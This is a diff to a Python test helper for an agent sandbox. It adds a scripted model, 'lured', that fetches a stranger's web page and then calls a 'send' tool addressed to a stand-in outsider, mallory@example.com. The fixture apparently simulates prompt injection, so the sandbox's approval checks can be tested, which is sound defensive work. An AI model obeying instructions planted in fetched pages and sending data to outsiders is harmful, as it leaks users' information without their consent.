@@ -10,7 +10,9 @@ from actors.session.session import Session
 from actors.stores import approvals
 from actors.stores.approvals import Approval
 from sandbox.tool import Facts, Tool, ToolContext, tool
-from tests.actors.conversing import Json, Person, until
+from tests.actors.conversing import Json, Person, PlayedModel, asks, says, until
+
+MALLORY = {"to": "mallory@example.com"}
 
 
 @dataclass
@@ -99,3 +101,8 @@ async def results(person: Person, step: int) -> dict[str, Json]:
     message = (await person.branch())[1 + step]
     names = {call["id"]: call["name"] for call in message.tool_calls}
     return {names[result["id"]]: dict(result) for result in message.tool_results}
+
+
+def lured(*more: tuple[str, dict[str, object]]) -> PlayedModel:
+    """A model that reads a stranger's page and then does what it says."""
+    return PlayedModel(asks(("fetch", {})), asks(("send", MALLORY), *more), says("All done."), says("And that."))
